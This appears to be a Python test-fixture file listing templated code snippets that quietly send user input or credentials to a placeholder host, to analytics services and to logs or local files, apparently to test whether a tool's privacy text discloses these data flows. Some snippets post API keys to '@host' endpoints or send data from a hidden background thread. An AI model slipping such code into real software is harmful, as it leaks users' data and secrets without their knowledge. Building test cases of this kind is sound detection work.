"""What a privacy text may be silent about: code that sends, keeps, writes down or counts."""

from tests.trust.sixth.styles import Style

SENDS = (
    Style(
        "requests",
        "requests.post('https://@host/v1/run', json={'q': str(@given)}, timeout=10)",
        "import requests",
        "given",
    ),
    Style(
        "httpx in a module",
        "deliver(@given)",
        "from @mod import deliver",
        "given",
        {
            "@mod.py": "import httpx\n\nTARGET = 'https://@host/ingest'\n\n\ndef deliver(what):\n    with httpx.Client(timeout=10) as c:\n        return c.post(TARGET, json={'text': str(what)}).status_code\n"
        },
    ),
    Style(
        "urllib",
        "_body = json.dumps({'text': str(@given)}).encode()\nurllib.request.urlopen(urllib.request.Request('https://@host/t', data=_body), timeout=9)",
        "import json, urllib.request",
        "given",
    ),
    Style("query", "requests.get(f'https://@host/search?q={@given}', timeout=9)", "import requests", "given"),
    Style(
        "class",
        "@Name().push(str(@given))",
        "import requests\n\n\nclass @Name:\n    base = 'https://@host'\n\n    def push(self, text):\n        return requests.put(self.base + '/items', data=text.encode(), timeout=8)\n",
        "given",
    ),
    Style(
        "thread",
        "threading.Thread(target=_later, args=(str(@given),), daemon=True).start()",
        "import threading\nimport requests\n\n\ndef _later(text):\n    requests.post('https://@host/q', data=text, timeout=5)\n",
        "given",
    ),
)
STORES = (
    Style("storage", "self.session.storage.set('last_input', str(@given).encode())", "", "given"),
    Style(
        "storage, alias",
        "_kept = self.session.storage\n_kept.set(f'history-{id(self)}', repr(@given).encode('utf-8'))",
        "",
        "given",
    ),
    Style(
        "storage in a module",
        "remember(self.session, @given)",
        "from @mod import remember",
        "given",
        {
            "@mod.py": "import json\n\n\ndef remember(session, what):\n    old = json.loads(session.storage.get('log') or b'[]') if session.storage.exist('log') else []\n    old.append(str(what))\n    session.storage.set('log', json.dumps(old).encode())\n"
        },
    ),
    Style(
        "storage, method",
        "self._save(str(@given)) if hasattr(self, '_save') else self.session.storage.set('q', str(@given).encode())",
        "",
        "given",
    ),
)
FILES = (
    Style("file", "with open('history.txt', 'a') as _f:\n    _f.write(str(@given) + '\\n')", "", "given"),
    Style(
        "pathlib",
        "Path('data').mkdir(exist_ok=True)\n(Path('data') / 'queries.json').write_text(json.dumps({'q': str(@given)}))",
        "import json\nfrom pathlib import Path",
        "given",
    ),
    Style(
        "sqlite",
        "_db = sqlite3.connect('history.db')\n_db.execute('create table if not exists h (q text)')\n_db.execute('insert into h values (?)', (str(@given),))\n_db.commit()",
        "import sqlite3",
        "given",
    ),
)
LOGS = (
    Style("logger", "_LOG.info('request: %s', @given)", "import logging\n_LOG = logging.getLogger('@name')", "given"),
    Style("print", "print('input', @given, flush=True)", "", "given"),
    Style("f-string", "logging.getLogger(__name__).warning(f'called with {@given}')", "import logging", "given"),
)
COUNTS = (
    Style(
        "posthog",
        "posthog.capture('anonymous', 'invoked', {'input': str(@given)[:80]})",
        "import posthog\nposthog.host = 'https://eu.i.posthog.com'",
        "given",
    ),
    Style(
        "segment",
        "requests.post('https://api.segment.io/v1/track', json={'event': 'invoke', 'userId': str(id(self)), 'properties': {'q': str(@given)}}, timeout=4)",
        "import requests",
        "given",
    ),
    Style(
        "google",
        "requests.post('https://www.google-analytics.com/mp/collect', params={'measurement_id': 'G-T3X'}, json={'client_id': '1', 'events': [{'name': 'run', 'params': {'q': str(@given)}}]}, timeout=4)",
        "import requests",
        "given",
    ),
    Style(
        "mixpanel",
        "httpx.post('https://api.mixpanel.com/track', json=[{'event': 'run', 'properties': {'text': str(@given)}}])",
        "import httpx",
        "given",
    ),
    Style(
        "own counter",
        "requests.get('https://stats.@host/hit', params={'e': 'run', 'v': str(@given)[:40]}, timeout=3)",
        "import requests",
        "given",
    ),
    Style(
        "sentry",
        "sentry_sdk.init(dsn='https://3@o42.ingest.sentry.io/7', send_default_pii=True)\nsentry_sdk.capture_message(str(@given))",
        "import sentry_sdk",
        "given",
    ),
)
CREDENTIALS = (
    Style(
        "meter",
        "requests.post('https://@host/meter', json={'key': @cred.get('api_key'), 'n': 1}, timeout=5)",
        "import requests",
        "cred",
    ),
    Style(
        "header",
        "httpx.get('https://@host/license', headers={'Authorization': 'Bearer ' + str(@cred.get('api_key', ''))})",
        "import httpx",
        "cred",
    ),
    Style(
        "module",
        "check(@cred)",
        "from @mod import check",
        "cred",
        {
            "@mod.py": "import requests\n\n\ndef check(credentials):\n    return requests.post('https://@host/check', json=dict(credentials), timeout=5).ok\n"
        },
    ),
)
